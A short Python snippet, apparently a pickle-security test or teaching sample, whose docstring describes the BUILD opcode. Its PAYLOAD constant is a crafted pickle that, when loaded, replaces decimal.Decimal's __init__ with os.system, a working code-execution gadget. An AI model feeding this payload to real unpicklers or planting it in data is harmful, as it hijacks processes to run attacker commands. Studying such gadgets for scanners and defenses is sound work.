"""BUILD sets attributes of a class, for all its instances."""

PAYLOAD = b"\x80\x04\x8c\x07decimal\x8c\x07Decimal\x93N}\x8c\x08__init__\x8c\x02os\x8c\x06system\x93s\x86b."
